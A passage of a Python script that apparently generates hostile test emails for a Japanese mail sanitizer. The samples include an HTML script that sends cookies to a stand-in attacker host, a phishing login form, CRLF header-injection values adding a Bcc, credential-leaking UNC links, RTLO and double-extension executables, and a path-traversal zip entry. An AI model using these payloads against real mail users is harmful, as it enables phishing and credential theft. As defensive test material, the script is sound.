    # in ISO-2022-JP words cut every 5 (through ESC $ B), the filename in
    # UTF-8 Q words cut every 4 bytes.
    subject = b_words_split("庁内システム更新のお知らせ".encode("utf-8"), "UTF-8", 7)
    name = b_words_split(cp50221("情報政策課 山田"), "ISO-2022-JP", 5)
    raw = "更新手順書（第二版）.txt".encode("utf-8")
    fname = " ".join("=?UTF-8?Q?%s?=" % "".join("=%02X" % b for b in raw[i:i + 4]) for i in range(0, len(raw), 4))
    attachment = part(['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit",
                       'Content-Disposition: attachment;\r\n filename="%s"' % fname],
                      crlf_bytes("手順本文\n".encode("utf-8")))
    lines = head(20, subject, frm="%s <yamada@example.jp>" % name,
                 extra=['Content-Type: multipart/mixed; boundary="b020"'])
    return message(lines, multipart("b020", [text_part("更新手順を添付します。\n"), attachment]))


# 1xx: HTML and links ------------------------------------------------------------

SCRIPT_HTML = """<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<style>body { color: red; } .x { background: url(https://track.example.com/bg.png); }</style>
<script>document.location = "https://evil.example.com/steal?c=" + document.cookie;</script>
</head>
<body onload="alert('onload')">
<div style="display:none">PREHEADER-HIDDEN-TEXT 当選おめでとうございます</div>
<p>お客様各位</p>
<p>アカウントの確認が必要です。</p>
<iframe src="https://evil.example.com/frame"></iframe>
<form action="https://evil.example.com/login" method="post">
<input type="password" name="pw"><input type="submit" value="送信">
</form>
<p><a href="javascript:alert(document.cookie)">こちらをクリック</a></p>
<p><a href="https://evil.example.com/login">https://bank.example.jp/login</a></p>
<img src="https://track.example.com/pixel.gif?id=123" width="1" height="1">
<p>ACTIVE-HTML-END</p>
<script>alert("second")</script>
</body></html>
"""


@sample("101-html-script-laden")
def _():
    lines = head(101, b_word("【重要】アカウント確認のお願い"),
                 extra=['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
    return message(lines, b64_lines(SCRIPT_HTML.encode("utf-8")) + "\r\n")


@sample("102-alternative-plain-html")
def _():
    plain = "平文の本文です。\n詳細: https://www.city.example.lg.jp/info\n"
    html = ("<html><body><p>HTML-ONLY-TEXT HTMLの本文です。</p>"
            "<p><a href=\"https://www.city.example.lg.jp/info\">詳細</a></p></body></html>\n")
    alt = multipart("b102", [text_part(plain, cte="quoted-printable"),
                             part(['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"],
                                  b64_lines(html.encode("utf-8")) + "\r\n")])
    lines = head(102, b_word("お知らせ"), extra=['Content-Type: multipart/alternative; boundary="b102"'])
    return message(lines, alt)


@sample("103-html-only-table-list")
def _():
    html = """<html><body>
<h1>発注内容</h1>
<table border="1">
<tr><th>品目</th><th>数量</th><th>単価</th></tr>
<tr><td>コピー用紙 A4</td><td>10</td><td>450円</td></tr>
<tr><td>ボールペン</td><td>50</td><td>80円</td></tr>
</table>
<ul><li>納品先: 本庁舎 3階</li><li>納期: 11月30日</li></ul>
<ol><li>第一項</li><li>第二項</li></ol>
<p>以上、よろしくお願いいたします。</p>
<p>記号: &amp; &quot;引用&quot; &copy;</p>
</body></html>
"""
    lines = head(103, b_word("発注内容のご確認"),
                 extra=['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable"])
    return message(lines, qp(html.encode("utf-8")))


@sample("104-html-shiftjis-meta-charset")
def _():
    html = """<html><head>
<meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">
<title>市政だより</title>
</head><body>
<h2>市政だより 11月号</h2>
<p>市民の皆様へ。今月の市政だよりをお届けします。</p>
<p>健康診断の受付時間は 9時～16時 です。電話番号: 0120－123－456</p>
<p>詳しくは <a href="https://www.city.example.lg.jp/dayori">市のホームページ</a> をご覧ください。</p>
<p>配信停止は<a href="https://news.example.com/unsubscribe?u=1">こちら</a></p>
</body></html>
"""
    # No charset on the MIME label: only the <meta> says Shift_JIS.
    lines = head(104, b_word("市政だより 11月号"),
                 extra=["Content-Type: text/html", "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(html.encode("cp932")))


@sample("105-strict-links-removed")
def _():
    body = ("リンク一覧:\n"
            "https://www.city.example.lg.jp/info\n"
            "http://evil.example.com/login?user=1\n"
            "ftp://files.example.com/pub/a.txt\n"
            "www.example.org/page\n"
            "本文の終わり\n")
    lines = head(105, b_word("リンクのテスト"),
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("utf-8")))


@sample("106-plain-links-defanged")
def _():
    body = ("ログインはこちら: https://evil.example.com/login?next=/home\n"
            "参考: http://www.example.org/page.html\n"
            "危険: javascript:alert(1)\n"
            "連絡先: mailto:info@example.jp\n")
    lines = head(106, "Please log in",
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("utf-8")))


@sample("107-unc-and-file-links")
def _():
    # Issue 16: UNC paths and file: links open a share (and send the
    # reader's Windows credentials to it): removed in every profile.
    body = ("手順書: \\\\fs01.example.lg.jp\\soumu\\manual.lnk\n"
            "IPで: \\\\192.0.2.7\\share\\x.lnk\n"
            "別の形: file://fs02.example.lg.jp/share/tool.lnk\n"
            "ローカル: file:///C:/Windows/System32/calc.exe\n"
            "ふつうのパス: C:\\Users\\soumu\\memo.txt\n")
    lines = head(107, "UNC paths",
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("utf-8")))


# 2xx: header injection ------------------------------------------------------------

@sample("201-subject-crlf-bcc")
def _():
    lines = head(201, "=?utf-8?q?x=0D=0ABcc:_evil@example.com?=",
                 extra=['Content-Type: text/plain; charset="UTF-8"'])
    return message(lines, "body of 201\n")


@sample("202-from-crlf-display-name")
def _():
    name = "Tanaka\r\nBcc: evil@example.com\r\nX-Injected: yes"
    frm = "=?UTF-8?B?%s?= <tanaka@example.jp>" % base64.b64encode(name.encode()).decode()
    reply = "=?UTF-8?Q?Reply=0ATo:_evil@example.com?= <reply@example.jp>"
    lines = head(202, "display name injection", frm=frm,
                 extra=["Reply-To: " + reply, 'Content-Type: text/plain; charset="UTF-8"'])
    return message(lines, "body of 202\n")


@sample("203-nul-bytes")
def _():
    lines = head(203, "abc@@NUL@@def",
                 extra=["X-Nul: a@@NUL@@b", "Bcc@@NUL@@: evil@example.com",
                        'Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"])
    raw = message(lines, "line1@@NUL@@line2\nend of 203\n")
    return raw.replace(b"@@NUL@@", b"\x00")


# 3xx: attachments ------------------------------------------------------------------

@sample("301-eicar")
def _():
    attachment = part(['Content-Type: application/octet-stream; name="eicar.com"',
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="eicar.com"'],
                      b64_lines(eicar()) + "\r\n")
    lines = head(301, "EICAR test", extra=['Content-Type: multipart/mixed; boundary="b301"'])
    return message(lines, multipart("b301", [text_part("Anti-virus test file attached.\n"), attachment]))


@sample("302-invoice-pdf-exe")
def _():
    attachment = part(['Content-Type: application/pdf; name="invoice.pdf.exe"',
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="invoice.pdf.exe"'],
                      b64_lines(mz_stub()) + "\r\n")
    lines = head(302, b_word("請求書送付"), extra=['Content-Type: multipart/mixed; boundary="b302"'])
    return message(lines, multipart("b302", [text_part("請求書をご確認ください。\n"), attachment]))


@sample("303-rtlo-filename")
def _():
    # "photo\u202Egpj.exe" displays as "photoexe.jpg".
    exe_name = "photo\u202egpj.exe"
    txt_name = "memo\u202etxt.exe"
    def star(name):
        return "UTF-8''" + urllib.parse.quote(name.encode("utf-8"), safe="")
    exe = part(['Content-Type: image/jpeg; name="%s"' % b_word(exe_name, chunk=40),
                "Content-Transfer-Encoding: base64",
                "Content-Disposition: attachment; filename*=" + star(exe_name)],
               b64_lines(mz_stub()) + "\r\n")
    txt = part(['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64",
                "Content-Disposition: attachment; filename*=" + star(txt_name)],
               b64_lines("just text\n".encode()) + "\r\n")
    lines = head(303, "photos", extra=['Content-Type: multipart/mixed; boundary="b303"'])
    return message(lines, multipart("b303", [text_part("写真を送ります。\n"), exe, txt]))


@sample("304-related-inline-image")
def _():
    html = ('<html><body><p>ロゴ入りのお知らせ</p><img src="cid:logo@example.jp" alt="logo">'
            "<p>INLINE-IMAGE-END</p></body></html>\n")
    related = multipart("b304r", [
        part(['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"],
             b64_lines(html.encode("utf-8")) + "\r\n"),
        part(["Content-Type: image/png", "Content-Transfer-Encoding: base64", "Content-ID: <logo@example.jp>",
              "Content-Disposition: inline"],
             b64_lines(png_1x1()) + "\r\n"),
    ])
    lines = head(304, "inline image",
                 extra=['Content-Type: multipart/related; type="text/html"; boundary="b304r"'])
    return message(lines, related)


@sample("305-zip-attachment")
def _():
    attachment = part(['Content-Type: application/zip; name="documents.zip"',
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="documents.zip"'],
                      b64_lines(small_zip()) + "\r\n")
    lines = head(305, "zip", extra=['Content-Type: multipart/mixed; boundary="b305"'])
    return message(lines, multipart("b305", [text_part("ZIPファイルを添付します。\n"), attachment]))


@sample("306-forwarded-rfc822")
def _():
    inner_html = ("<html><body><p>FORWARDED-HTML-TEXT 転送元の本文です。</p>"
                  "<script>alert('inner')</script>"
                  '<p><a href="https://evil.example.com/inner">https://bank.example.jp/</a></p>'
                  "</body></html>\n")
    inner = message(
        ['From: %s <origin@example.com>' % b_word("転送元"), "To: yamada@example.jp",
         "Subject: " + b_word("元のメール"), "Date: Wed, 13 Nov 2024 09:00:00 +0900",
         "Message-ID: <inner-306@samples.mukaika.invalid>", "Bcc: hidden@example.com",
         "X-Inner-Header: must not surface", "MIME-Version: 1.0",
         'Content-Type: multipart/mixed; boundary="b306i"'],
        multipart("b306i", [
            part(['Content-Type: text/html; charset="UTF-8"', "Content-Transfer-Encoding: base64"],
                 b64_lines(inner_html.encode("utf-8")) + "\r\n"),
            part(['Content-Type: application/x-msdownload; name="setup.exe"', "Content-Transfer-Encoding: base64",
                  'Content-Disposition: attachment; filename="setup.exe"'], b64_lines(mz_stub()) + "\r\n"),
            part(['Content-Type: text/plain; charset="Shift_JIS"; name="%s"' % b_word("議事録.txt", "ISO-2022-JP"),
                  "Content-Transfer-Encoding: base64",
                  'Content-Disposition: attachment; filename="%s"' % b_word("議事録.txt", "ISO-2022-JP")],
                 b64_lines("転送された議事録 9時～10時\n".encode("cp932")) + "\r\n"),
        ]))
    outer = multipart("b306", [
        text_part("以下のメールを転送します。\n"),
        part(["Content-Type: message/rfc822", 'Content-Disposition: attachment; filename="forwarded.eml"'], inner),
    ])
    lines = head(306, b_word("Fw: 元のメール"), extra=['Content-Type: multipart/mixed; boundary="b306"'])
    return message(lines, outer)


@sample("307-forwarded-rfc822-base64")
def _():
    # RFC 2046 allows only 7bit/8bit/binary on message/rfc822, but base64
    # is seen in the wild; the nested message is then parsed from the decoded bytes.
    inner = message(
        ['From: %s <origin@example.com>' % b_word("転送元"), "To: yamada@example.jp",
         "Subject: " + b_word("base64で包まれた転送"), "Date: Wed, 13 Nov 2024 09:00:00 +0900",
         "MIME-Version: 1.0", 'Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: base64"],
        b64_lines("BASE64-FORWARDED 転送本文 9時～10時\n".encode("cp932")) + "\r\n")
    outer = multipart("b307", [
        text_part("転送します。\n"),
        part(["Content-Type: message/rfc822", "Content-Transfer-Encoding: base64",
              'Content-Disposition: attachment; filename="forwarded.eml"'], b64_lines(inner) + "\r\n"),
    ])
    lines = head(307, "Fw: base64", extra=['Content-Type: multipart/mixed; boundary="b307"'])
    return message(lines, outer)


@sample("308-html-attachment")
def _():
    html = '<html><body><script>alert("attached")</script><p>HTML-ATTACHMENT-TEXT</p></body></html>\n'
    attachment = part(['Content-Type: text/html; charset="UTF-8"; name="page.html"', "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="page.html"'],
                      b64_lines(html.encode("utf-8")) + "\r\n")
    lines = head(308, "html attachment", extra=['Content-Type: multipart/mixed; boundary="b308"'])
    return message(lines, multipart("b308", [text_part("HTMLファイルを添付します。\n"), attachment]))


@sample("309-csv-attachment-shiftjis")
def _():
    csv = "氏名,所属,内線\r\n山田太郎,総務課,1234\r\n髙橋花子,市民課,5678\r\n"
    attachment = part(['Content-Type: text/csv; charset="Shift_JIS"; name="%s"' % b_word("名簿.csv", "ISO-2022-JP"),
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="%s"' % b_word("名簿.csv", "ISO-2022-JP")],
                      b64_lines(csv.encode("cp932")) + "\r\n")
    lines = head(309, b_word("名簿の送付"), extra=['Content-Type: multipart/mixed; boundary="b309"'])
    return message(lines, multipart("b309", [text_part("名簿を添付します。\n"), attachment]))


@sample("310-test-signature-nested-zip")
def _():
    # Three zips deep; clamd must find the project test signature at the bottom.
    data = nested_zip(3, "report.txt", test_signature_text())
    attachment = part(['Content-Type: application/zip; name="%s"' % b_word("見積書.zip"),
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="%s"' % b_word("見積書.zip")],
                      b64_lines(data) + "\r\n")
    lines = head(310, b_word("見積書の送付"), extra=['Content-Type: multipart/mixed; boundary="b310"'])
    return message(lines, multipart("b310", [text_part("見積書を添付します。\n"), attachment]))


@sample("311-test-signature-forwarded")
def _():
    # A forwarded mail whose attachment is base64 in 13-character lines.
    inner = message(
        ["From: origin@example.com", "To: yamada@example.jp", "Subject: memo",
         "Date: Wed, 13 Nov 2024 09:00:00 +0900", "MIME-Version: 1.0",
         'Content-Type: multipart/mixed; boundary="b311i"'],
        multipart("b311i", [
            text_part("INNER-BODY\n"),
            part(['Content-Type: application/octet-stream; name="memo.bin"', "Content-Transfer-Encoding: base64",
                  'Content-Disposition: attachment; filename="memo.bin"'],
                 b64_lines(test_signature_text(), width=13) + "\r\n"),
        ]))
    outer = multipart("b311", [
        text_part("転送します。\n"),
        part(["Content-Type: message/rfc822"], inner),
    ])
    lines = head(311, "Fw: memo", extra=['Content-Type: multipart/mixed; boundary="b311"'])
    return message(lines, outer)


@sample("313-zip-mixed")
def _():
    # A zip as Japanese Windows writes it (CP932 names, no UTF-8 flag) holding
    # a Shift_JIS text, an executable, a photo with EXIF, a path-traversal
    # name, and a nested zip with an HTML page.
    def add(z, name, data):
        info = zipfile.ZipInfo(name, date_time=(2024, 11, 14, 10, 30, 0))
        info.external_attr = 0o644 << 16
        z.writestr(info, data, zipfile.ZIP_DEFLATED)
    inner = BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        add(z, "memo.html", "<html><body><script>alert(1)</script><p>INNER-HTML-TEXT</p></body></html>")
    outer = BytesIO()
    with zipfile.ZipFile(outer, "w") as z:
        # zipfile writes non-ASCII names as UTF-8 with the flag: write an
        # ASCII stand-in of the same length and put the CP932 bytes in its
        # place below, with no flag, as an old Windows zip holds them.
        add(z, "@@@@@@.txt", "見積金額: 10万円 9時～17時\r\n".encode("cp932"))
        add(z, "setup.exe", mz_stub())
        add(z, "photo.jpg", jpeg_with_exif_and_payload())
        add(z, "../../evil.txt", b"TRAVERSAL-TEXT\n")
        add(z, "inner.zip", inner.getvalue())
    data = outer.getvalue().replace(b"@@@@@@.txt", "見積書.txt".encode("cp932"))
    assert len(data) == len(outer.getvalue())
    attachment = part(['Content-Type: application/x-zip-compressed; name="%s"' % b_word("資料.zip"),
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="%s"' % b_word("資料.zip")],
                      b64_lines(data) + "\r\n")
    lines = head(313, b_word("資料一式"), extra=['Content-Type: multipart/mixed; boundary="b313"'])
    return message(lines, multipart("b313", [text_part("資料一式を送ります。\n"), attachment]))


@sample("314-pdf-active-content")
def _():
    attachment = part(['Content-Type: application/pdf; name="%s"' % b_word("見積書.pdf"),
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="%s"' % b_word("見積書.pdf")],
                      b64_lines(active_pdf()) + "\r\n")
    lines = head(314, b_word("見積書"), extra=['Content-Type: multipart/mixed; boundary="b314"'])
    return message(lines, multipart("b314", [text_part("見積書をお送りします。\n"), attachment]))


@sample("315-docm-macro")
def _():
    attachment = part(['Content-Type: application/vnd.ms-word.document.macroEnabled.12; name="%s"' % b_word("マクロ.docm"),
                       "Content-Transfer-Encoding: base64",
                       'Content-Disposition: attachment; filename="%s"' % b_word("マクロ.docm")],
                      b64_lines(macro_docm()) + "\r\n")
    lines = head(315, b_word("資料（マクロ付き）"), extra=['Content-Type: multipart/mixed; boundary="b315"'])
    return message(lines, multipart("b315", [text_part("マクロ付きの資料です。\n"), attachment]))


@sample("312-image-attachments")
def _():
    def attach(ctype, name, data):
        return part(['Content-Type: %s; name="%s"' % (ctype, b_word(name) if not name.isascii() else name),
                     "Content-Transfer-Encoding: base64",
                     'Content-Disposition: attachment; filename="%s"' % (b_word(name) if not name.isascii() else name)],
                    b64_lines(data) + "\r\n")
    parts = [text_part("写真と図を送ります。\n"),
             attach("image/jpeg", "photo.jpeg", jpeg_with_exif_and_payload()),
             attach("image/png", "screenshot.png", png_with_text_and_payload()),
             attach("application/octet-stream", "図.bmp", bmp())]
    lines = head(312, b_word("写真の送付"), extra=['Content-Type: multipart/mixed; boundary="b312"'])
    return message(lines, multipart("b312", parts))


@sample("316-legacy-office-encrypted")
def _():
    def attach(name, ctype, data):
        return part(['Content-Type: %s; name="%s"' % (ctype, name), "Content-Transfer-Encoding: base64",
                     'Content-Disposition: attachment; filename="%s"' % name], b64_lines(data) + "\r\n")
    parts = [text_part("パスワード付きのファイルを送ります。\n"),
             attach("keiyaku.doc", "application/msword", encrypted_doc()),
             attach("meibo.xls", "application/vnd.ms-excel", obfuscated_xls()),
             attach("setsumei.ppt", "application/vnd.ms-powerpoint", encrypted_ppt())]
    lines = head(316, b_word("パスワード付き資料"), extra=['Content-Type: multipart/mixed; boundary="b316"'])
    return message(lines, multipart("b316", parts))


@sample("317-dangerous-containers")
def _():
    def attach(name, data):
        return part(['Content-Type: application/octet-stream; name="%s"' % name, "Content-Transfer-Encoding: base64",
                     'Content-Disposition: attachment; filename="%s"' % name], b64_lines(data) + "\r\n")
    parts = [text_part("各種ファイルを送ります。\n"),
             attach("shortcut.lnk", lnk_stub()), attach("disk.iso", iso9660_stub()),
             attach("udf.img", udf_stub()), attach("disk.vhd", vhd_stub()),
             attach("disk.vhdx", vhdx_stub()), attach("note.one", onenote_stub()),
             attach("help.chm", chm_stub()), attach("setup.msi", msi_stub())]
    lines = head(317, b_word("各種ファイル"), extra=['Content-Type: multipart/mixed; boundary="b317"'])
    return message(lines, multipart("b317", parts))


# 4xx: malformed MIME -----------------------------------------------------------------

@sample("401-missing-final-boundary")
def _():
    body = multipart("b401", [
        text_part("最後の境界がありません。\n"),
        part(['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit",
              'Content-Disposition: attachment; filename="notes.txt"'],
             crlf_bytes("notes without a closing boundary\n".encode())),
    ], close=False)
    lines = head(401, "missing final boundary", extra=['Content-Type: multipart/mixed; boundary="b401"'])
    return message(lines, body)


@sample("402-deep-nesting-200")
def _():
    depth = 200
    inner = part(['Content-Type: text/plain; charset="UTF-8"'], "DEEPEST-LEVEL-TEXT\n")
    for level in range(depth, 0, -1):
        b = "d%03d" % level
        inner = part(['Content-Type: multipart/mixed; boundary="%s"' % b], multipart(b, [inner]))
    top = multipart("d000", [text_part("TOP-LEVEL-TEXT 最上位の本文\n"), inner])
    lines = head(402, "200-deep nesting", extra=['Content-Type: multipart/mixed; boundary="d000"'])
    return message(lines, top)


@sample("403-header-line-1mb")
def _():
    lines = head(403, "one header line of 1 MB",
                 extra=["X-Long: " + "A" * (1024 * 1024), 'Content-Type: text/plain; charset="UTF-8"'])
    return message(lines, "body of 403\n")


@sample("404-5000-headers")
def _():
    extra = ["X-Filler-%04d: %d" % (i, i) for i in range(5000)]
    lines = head(404, "5000 header fields", extra=extra + ['Content-Type: text/plain; charset="UTF-8"'])
    return message(lines, "body of 404\n")


@sample("405-broken-base64")
def _():
    good = base64.b64encode("壊れたBASE64の前半".encode("utf-8")).decode()
    body = good + "\r\n!!!!####@@@@ not base64 at all ####\r\n" + "5pel5pys6Kqe" + "=\r\nQUJD===\r\n"
    lines = head(405, "broken base64",
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
    return message(lines, body)


@sample("406-broken-quoted-printable")
def _():
    body = ("=E5=A3=8A=E3=82=8C=E3=81=9FQP: =ZZ =E6=97 =\r\n"
            "lone equals = in the middle, =4 truncated escape, =e6=97=a5 lowercase\r\n"
            "line ends with soft break=\r\n"
            "QP-END\r\n")
    lines = head(406, "broken quoted-printable",
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable"])
    return message(lines, body)


@sample("407-no-headers")
def _():
    # Starts with an empty line: an empty header section, then a body.
    return b"\r\nThis message has no header fields at all.\r\nNO-HEADERS-BODY\r\n"


@sample("408-garbage-bytes")
def _():
    # Deterministic pseudo-random bytes (an LCG), with CR, LF and NUL among them.
    state = 408
    out = bytearray()
    for _ in range(4096):
        state = (state * 1103515245 + 12345) & 0x7FFFFFFF
        out.append((state >> 16) & 0xFF)
    return bytes(out)


@sample("409-multipart-no-boundary")
def _():
    body = ("--b409\r\nContent-Type: text/plain\r\n\r\nNO-BOUNDARY-PARAM text\r\n--b409--\r\n")
    lines = head(409, "multipart without boundary", extra=["Content-Type: multipart/mixed"])
    return message(lines, body)


@sample("410-bare-lf")
def _():
    body = multipart("b410", [
        text_part("LF-ONLY-BODY 改行がLFだけのメールです。\n", cte="8bit"),
        part(['Content-Type: text/plain; charset="UTF-8"', 'Content-Disposition: attachment; filename="lf.txt"'],
             "attachment with LF line ends\n"),
    ])
    lines = head(410, b_word("LFのみ"), extra=['Content-Type: multipart/mixed; boundary="b410"'])
    return message(lines, body).replace(b"\r\n", b"\n")


@sample("411-too-many-parts")
def _():
    parts = [part(['Content-Type: text/plain; charset="UTF-8"'], "part %d\n" % i) for i in range(600)]
    lines = head(411, "600 parts", extra=['Content-Type: multipart/mixed; boundary="b411"'])
    return message(lines, multipart("b411", parts))


@sample("412-no-from-no-date")
def _():
    # Issue 16: no From and no Date. Offline no envelope is known: From is
    # supplied as unknown-sender@invalid (serve uses the envelope sender,
    # and the arrival time as Date).
    body = "差出人と日付のないメールです。NO-FROM-BODY\n"
    lines = ["To: " + TO, "Subject: " + b_word("差出人なし"), "Message-ID: <sample-412@samples.mukaika.invalid>",
             "MIME-Version: 1.0", 'Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit"]
    return message(lines, crlf_bytes(body.encode("utf-8")))


# 5xx: profiles -------------------------------------------------------------------------

@sample("501-legacy-jis-output")
def _():
    body = "波ダッシュ: 10時〜12時\n丸数字: ①②\n半角カナ: ｱｲｳ\n絵文字: 😀\n"
    lines = head(501, b_word("旧来のメーラー向け"),
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
    return message(lines, b64_lines(body.encode("utf-8")) + "\r\n")


def main():
    check = "--check" in sys.argv[1:]
    stale = []
    for name, build in SAMPLES.items():
        data = build()
        path = os.path.join(HERE, name + ".eml")
        if check:
            with open(path, "rb") as f:
                if f.read() != data:
                    stale.append(name)
        else:
            with open(path, "wb") as f:
                f.write(data)
    if stale:
        print("stale samples (run python3 samples/generate.py):", ", ".join(stale))
        return 1
    if not check:
        print("wrote %d samples" % len(SAMPLES))
    return 0


if __name__ == "__main__":
    sys.exit(main())
